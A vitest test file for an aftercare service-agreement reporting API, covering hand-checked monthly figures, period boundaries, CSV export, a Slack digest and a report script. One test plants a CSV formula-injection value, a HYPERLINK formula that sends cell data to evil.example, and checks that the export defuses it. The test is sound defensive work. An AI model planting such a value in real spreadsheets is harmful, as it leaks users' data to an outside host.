/**
 * The agreement's figures (§3.1f, §3.3b–d) on a fixed dataset (test/support/report-fixture.ts)
 * whose every figure is worked out by hand below, with period boundaries in the service's time
 * zone; an empty period; a technician with no tickets; the CSV; the weekly digest in Slack.
 */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { STAFF_CHANNEL } from './fakes/slack-api.ts'
import { seedReportFixture } from './support/report-fixture.ts'
import { eventually, startWorld, type World } from './support/world.ts'

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Json = any
let world: World
beforeAll(async () => {
  world = await startWorld()
  await seedReportFixture(world.t.db.prisma)
})
afterAll(() => world.close())

const november = (on: World = world) => on.t.getJson('/api/reports/agreement?from=2026-11-01&to=2026-11-30') as Promise<Json>
const r = (numerator: number, denominator: number) => ({ numerator, denominator, value: denominator ? numerator / denominator : null })

describe('November 2026, every figure by hand', () => {
  it('overall', async () => {
    const { overall, period } = await november()
    expect(period).toEqual({ from: '2026-11-01', to: '2026-11-30', timeZone: 'Asia/Shanghai', start: '2026-10-31T16:00:00.000Z', end: '2026-11-30T16:00:00.000Z' })
    // T1–T4: T4 at 23:30 on 30 Nov (Shanghai) is in; T5 at 00:30 on 1 Dec and T6 on 31 Oct are out.
    expect(overall.requests).toEqual({
      total: 4,
      byType: { repair: 2, installation: 1, maintenance: 1, spare_parts: 0, technical_support: 0, training: 0 },
      byChannel: { sms: 2, webchat: 1, slack: 1, phone: 0, whatsapp: 0 },
    })
    // Responses decided in November: T6 (1 Nov, in time), T1 (in time), T2 (late, on the day it fell due), T3 (in
    // time), and T4's, due in December but made on 30 November: it counts when it was made (issue 16).
    expect(overall.respondedWithin24h).toEqual(r(4, 5))
    expect(overall.installedWithin3WorkingDays).toEqual(r(0, 1))
    expect(overall.diagnosedWithin1h).toEqual(r(2, 2))
    // Completed in November: T1 2 days, T2 5 days, T3 7 days.
    expect(overall.cycleDays).toEqual({ total: 14, count: 3, average: 14 / 3, median: 5 })
    // Ratings 5 (T1) and 2 (T2); T3's feedback was missed.
    expect(overall.satisfaction).toEqual(r(1, 2))
    expect(overall.averageRating).toEqual(r(7, 2))
    expect(overall.feedbackWithin24h).toEqual(r(2, 3))
    expect(overall.rootCauses).toEqual({
      byCause: { product_defect: 1, improper_use: 1, environment: 0, wear: 0, other: 0 },
      partyA: r(1, 2),
      partyB: r(1, 2),
    })
    expect(overall.parts).toEqual({ fitted: 3, genuine: r(2, 3) })
    expect(overall.warrantyRepairs).toEqual(r(1, 2))
    // Opened: T1's and T2's. Resolved: T2's and T6's (opened in October). Open at the end: T1's.
    expect(overall.complaints).toEqual({ opened: 2, resolved: 2, openAtEnd: 1 })
    // T2's late response and T3's installation, excused by the force majeure that named it.
    expect(overall.breaches).toEqual({ byKind: { response: 1, installation: 1, diagnosis: 0, feedback: 0 }, total: 2, excused: 1 })
    // §4.1b, once per non-conforming service: T1 (a non-genuine seal) 500 × 10% = 50 and T2 (late
    // response) 500 × 10% = 50; T3's only reason is excused: 300 × 10% = 30 waived.
    expect(overall.damages).toEqual({
      services: 2,
      amount: 100,
      waived: { services: 1, amount: 30 },
      byReason: { late_response: 1, late_installation: 1, late_diagnosis: 0, fix_rejected: 0, repeat_fault: 0, non_genuine_part: 1 },
    })
    // §4.1c: T3's notice to Party A.
    expect(overall.forceMajeureNotices).toBe(1)
  })

  it('per service type', async () => {
    const { byType } = await november()
    expect(byType.repair.requests.total).toBe(2)
    expect(byType.repair.respondedWithin24h).toEqual(r(1, 2))
    expect(byType.repair.cycleDays).toEqual({ total: 7, count: 2, average: 3.5, median: 3.5 })
    expect(byType.repair.satisfaction).toEqual(r(1, 2))
    expect(byType.installation.installedWithin3WorkingDays).toEqual(r(0, 1))
    expect(byType.installation.breaches.excused).toBe(1)
    expect(byType.installation.damages).toMatchObject({ services: 0, amount: 0, waived: { services: 1, amount: 30 } })
    expect(byType.repair.damages).toMatchObject({ services: 2, amount: 100 })
    expect(byType.technical_support.respondedWithin24h).toEqual(r(1, 1))
    expect(byType.technical_support.complaints).toEqual({ opened: 0, resolved: 1, openAtEnd: 0 })
    expect(byType.training.requests.total).toBe(0)
    expect(byType.training.satisfaction).toEqual(r(0, 0))
  })

  it('per technician, including one with no tickets', async () => {
    const { byTechnician } = await november()
    expect(byTechnician.map((row: Json) => row.technician.name)).toEqual(['Li, Ming "Lao Li" 李明', 'Wang Gong', 'Zhao (no tickets)'])
    const [li, wang, zhao] = byTechnician.map((row: Json) => row.figures)
    expect(wang.respondedWithin24h).toEqual(r(1, 2))
    expect(wang.diagnosedWithin1h).toEqual(r(2, 2))
    expect(wang.satisfaction).toEqual(r(1, 2))
    expect(wang.complaints).toEqual({ opened: 2, resolved: 1, openAtEnd: 1 })
    expect(wang.breaches.total).toBe(1)
    expect(wang.damages.amount).toBe(100)
    expect(li.installedWithin3WorkingDays).toEqual(r(0, 1))
    expect(li.cycleDays).toMatchObject({ count: 1, average: 7, median: 7 })
    expect(zhao.requests.total).toBe(0)
    expect(zhao.respondedWithin24h).toEqual({ numerator: 0, denominator: 0, value: null })
    expect(zhao.cycleDays).toEqual({ total: 0, count: 0, average: null, median: null })
  })
})

describe('periods', () => {
  it('an empty period has zeros and no ratios to show', async () => {
    const { overall } = await world.t.getJson('/api/reports/agreement?from=2025-01-01&to=2025-01-31')
    expect(overall.requests.total).toBe(0)
    expect(overall.respondedWithin24h).toEqual({ numerator: 0, denominator: 0, value: null })
    expect(overall.damages.amount).toBe(0)
  })

  it('a leap year is the longest period: 366 days, from midnight to midnight service time', async () => {
    const response = await world.t.admin('/api/reports/agreement?from=2028-01-01&to=2028-12-31')
    expect(response.status).toBe(200)
    expect(((await response.json()) as Json).period).toEqual({ from: '2028-01-01', to: '2028-12-31', timeZone: 'Asia/Shanghai', start: '2027-12-31T16:00:00.000Z', end: '2028-12-31T16:00:00.000Z' })
  })

  it('a single day is cut at midnight service time', async () => {
    const lastDay = await world.t.getJson('/api/reports/agreement?from=2026-11-30&to=2026-11-30')
    expect(lastDay.overall.requests.byType).toMatchObject({ maintenance: 1, repair: 0 })
    const firstOfDecember = await world.t.getJson('/api/reports/agreement?from=2026-12-01&to=2026-12-01')
    expect(firstOfDecember.overall.requests.byType).toMatchObject({ maintenance: 0, repair: 1 })
    // Issue 16: T4's response, made on the 30th and due on 1 December, counts on the 30th, once.
    expect(lastDay.overall.respondedWithin24h).toEqual(r(1, 1))
    expect(firstOfDecember.overall.respondedWithin24h).toEqual(r(0, 0))
  })

  it.each([
    ['?from=2026-11-01', /to/],
    ['?from=2026-11-31&to=2026-12-01', /dates/],
    ['?from=2026-12-01&to=2026-11-01', /before/],
    ['?from=yesterday&to=2026-11-01', /from/],
    // Year 0 would reach PostgreSQL, which has none; years far out are no one's service period.
    ['?from=0001-01-01&to=2026-11-01', /between 1900 and 2999/],
    ['?from=2025-01-01&to=2026-11-30', /at most 366 days/],
    // 367 days: one more than the leap year above.
    ['?from=2028-01-01&to=2029-01-01', /at most 366 days/],
  ])('answers 400 to %s', async (query, message) => {
    const response = await world.t.admin(`/api/reports/agreement${query}`)
    expect(response.status).toBe(400)
    expect(((await response.json()) as Json).error).toMatch(message)
  })
})

/** A strict RFC 4180 reader, to prove the CSV is well formed. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') (field += '"'), i++
      else if (char === '"') quoted = false
      else field += char
    } else if (char === '"') {
      if (field) throw new Error(`stray quote at ${i}`)
      quoted = true
    } else if (char === ',') row.push(field), (field = '')
    else if (char === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++
    else if (char === '\n') throw new Error(`bare LF at ${i}`)
    else field += char
  }
  if (quoted) throw new Error('unterminated quote')
  return rows
}

describe('CSV', () => {
  it('is well formed: quotes, commas and Chinese survive, one figure per row with numerator and denominator', async () => {
    const response = await world.t.admin('/api/reports/agreement.csv?from=2026-11-01&to=2026-11-30')
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toContain('aftercare-report-2026-11-01-2026-11-30.csv')
    const text = await response.text()
    const rows = parseCsv(text.replace(/^\ufeff/, ''))
    expect(rows[0]).toEqual(['period_from', 'period_to', 'time_zone', 'scope', 'key', 'figure', 'numerator', 'denominator', 'value'])
    expect(rows.every((row) => row.length === 9)).toBe(true)
    const find = (scope: string, key: string, figure: string) => rows.find((row) => row[3] === scope && row[4] === key && row[5] === figure)
    expect(find('overall', '', 'responded_within_24h')).toEqual(['2026-11-01', '2026-11-30', 'Asia/Shanghai', 'overall', '', 'responded_within_24h', '4', '5', '0.8'])
    expect(find('technician', 'Li, Ming "Lao Li" 李明', 'installed_within_3_working_days')?.slice(6)).toEqual(['0', '1', '0'])
    expect(find('technician', 'Zhao (no tickets)', 'satisfaction')?.slice(6)).toEqual(['0', '0', ''])
    expect(find('overall', '', 'liquidated_damages')?.[8]).toBe('100')
    expect(find('overall', '', 'non_conforming_services')?.[8]).toBe('2')
    expect(find('overall', '', 'force_majeure_damages_waived')?.[8]).toBe('30')
    expect(text).toContain('"Li, Ming ""Lao Li"" 李明"')
  })
})

describe('the weekly digest (§3.3c)', () => {
  it('posts last week’s figures against the targets to the staff channel', async () => {
    world.t.clock.set('2026-11-30T02:00:00Z') // Monday 10:00 in Shanghai: last week is 23–29 Nov
    const text = await world.t.assembled.postDigest()
    const posted = await eventually(
      () => world.slack.of('chat.postMessage').find((call) => call.args.channel === STAFF_CHANNEL && String(call.args.text).startsWith('*Weekly service digest*')),
      'the digest',
    )
    expect(posted.args.text).toBe(text)
    expect(text).toContain('*Weekly service digest* — 2026-11-23 to 2026-11-29')
    expect(text).toContain(':warning: Installed within 3 working days (§2.1a): *0.0%* (0/1), target 100%')
    expect(text).toContain('• Responded within 24 h (§2.2): nothing to count')
    expect(text).toContain(
      'Deadline breaches: *1* (response 0, installation 1, diagnosis 0, feedback 0); non-conforming services 0, liquidated damages *0.00 CNY* (§4.1b, once per service); force majeure (§4.1c): notices 1, breaches excused 1, 30.00 CNY waived',
    )
    expect(text).toContain('Complaints: 0 opened, 0 resolved, *1 open* (§3.3d)')
  })
})

describe('the weekly trend', () => {
  it('gives the response and satisfaction shares per week', async () => {
    world.t.clock.set('2026-11-30T02:00:00Z')
    const { weeks } = await world.t.getJson('/api/reports/trend?weeks=6')
    expect(weeks.map((week: Json) => week.week)).toEqual(['2026-10-26', '2026-11-02', '2026-11-09', '2026-11-16', '2026-11-23', '2026-11-30'])
    const byWeek = Object.fromEntries(weeks.map((week: Json) => [week.week, week]))
    expect(byWeek['2026-10-26'].respondedWithin24h).toEqual(r(1, 1)) // T6, due Sun 1 Nov
    expect(byWeek['2026-11-02'].respondedWithin24h).toEqual(r(1, 1))
    expect(byWeek['2026-11-09'].respondedWithin24h).toEqual(r(0, 1))
    expect(byWeek['2026-11-30'].respondedWithin24h).toEqual(r(1, 1)) // T4, made Mon 30 Nov, due 1 Dec (issue 16)
    expect(byWeek['2026-11-02'].satisfaction).toEqual(r(1, 1))
    expect(byWeek['2026-11-09'].satisfaction).toEqual(r(0, 1))
  })
})

describe('npm run report', () => {
  it('prints the figures for the coordination meeting (Markdown), or CSV', async () => {
    const { execFile } = await import('node:child_process')
    const run = (format: string) =>
      new Promise<string>((resolve, reject) =>
        execFile(
          process.execPath,
          ['--import', 'tsx', 'scripts/report.ts', '--from', '2026-11-01', '--to', '2026-11-30', '--format', format],
          { env: { ...process.env, DATABASE_URL: world.t.db.url, LOG_LEVEL: 'silent' } },
          (error, stdout, stderr) => (error ? reject(new Error(stderr || error.message)) : resolve(stdout)),
        ),
      )
    const markdown = await run('md')
    expect(markdown).toContain('# Service report 2026-11-01 – 2026-11-30 (Asia/Shanghai)')
    expect(markdown).toContain('| responded within 24 h | 80.0% (4/5) | §2.2 |')
    expect(markdown).toContain('| non-conforming services, liquidated damages (10% of value, once per service) | 2, 100.00 CNY | §4.1b |')
    expect(markdown).toContain('| force majeure | 1 notices to Party A; 1 breaches excused; 1 services, 30.00 CNY waived | §4.1c |')
    expect(markdown).toContain('| Li, Ming "Lao Li" 李明 |')
    expect(markdown).toContain('| Repair | 2 |')
    expect(markdown).toContain('| Spare parts | 0 |')
    expect(await run('csv')).toContain('overall,,responded_within_24h,4,5,0.8')
  })

  it('prints its usage on --help, and refuses a day that does not exist, naming it (issue 16)', async () => {
    const { execFile } = await import('node:child_process')
    const run = (...args: string[]) =>
      new Promise<{ code: number; stdout: string; stderr: string }>((resolve) =>
        execFile(process.execPath, ['--import', 'tsx', 'scripts/report.ts', ...args], { env: { ...process.env, DATABASE_URL: world.t.db.url, LOG_LEVEL: 'silent' } }, (error, stdout, stderr) =>
          resolve({ code: error ? Number(error.code ?? 1) : 0, stdout, stderr }),
        ),
      )
    const help = await run('--help')
    expect(help).toMatchObject({ code: 0, stdout: expect.stringContaining('usage: npm run report -- [--from YYYY-MM-DD]') })
    const impossible = await run('--from', '2026-11-31')
    expect(impossible.code).toBe(2)
    expect(impossible.stderr).toContain('--from 2026-11-31: not a date (YYYY-MM-DD)')
    expect((await run('--from', '2026-12-02', '--to', '2026-12-01')).stderr).toContain('--from 2026-12-02 is after --to 2026-12-01')
  })
})

// These change the fixture: each on a fixture of its own, so no other test sees the change.
describe('after the fixture changes', () => {
  let changed: World
  beforeEach(async () => {
    changed = await startWorld()
    await seedReportFixture(changed.t.db.prisma)
  })
  afterEach(() => changed.close())

  it('a reopened service no longer counts as completed, until it is confirmed again (§3.1f)', async () => {
    expect((await november(changed)).overall.cycleDays).toEqual({ total: 14, count: 3, average: 14 / 3, median: 5 })
    const reopen = await changed.t.admin('/api/tickets/SR-2026-000001/actions', { method: 'POST', body: JSON.stringify({ action: 'reopen', reason: 'The drum stopped again' }) })
    expect(reopen.status).toBe(200)
    // Completed in November: T2 5 days, T3 7 days; T1 is open again.
    expect((await november(changed)).overall.cycleDays).toEqual({ total: 12, count: 2, average: 6, median: 6 })
  })

  it('a technician named like a formula is text in the CSV, not a formula', async () => {
    const created = await changed.t.admin('/api/technicians', { method: 'POST', body: JSON.stringify({ name: '=HYPERLINK("https://evil.example/?"&A2,"ok")' }) })
    expect(created.status).toBe(201)
    const rows = parseCsv((await (await changed.t.admin('/api/reports/agreement.csv?from=2026-11-01&to=2026-11-30')).text()).replace(/^\ufeff/, ''))
    const keys = new Set(rows.filter((row) => row[3] === 'technician').map((row) => row[4]))
    expect(keys).toContain(`'=HYPERLINK("https://evil.example/?"&A2,"ok")`)
    expect([...keys].some((key) => /^[=+\-@]/.test(key!))).toBe(false)
  })
})

describe('the dashboard’s session', () => {
  it('a malformed session cookie is no session: the sign-in page, or 401', async () => {
    const headers = { cookie: 'aftercare_session=%E0%A4%A' }
    const page = await fetch(`${world.t.url}/dashboard`, { headers })
    expect(page.status).toBe(200)
    expect(await page.text()).toContain('type="password"')
    expect((await fetch(`${world.t.url}/api/reports/trend`, { headers })).status).toBe(401)
  })
})
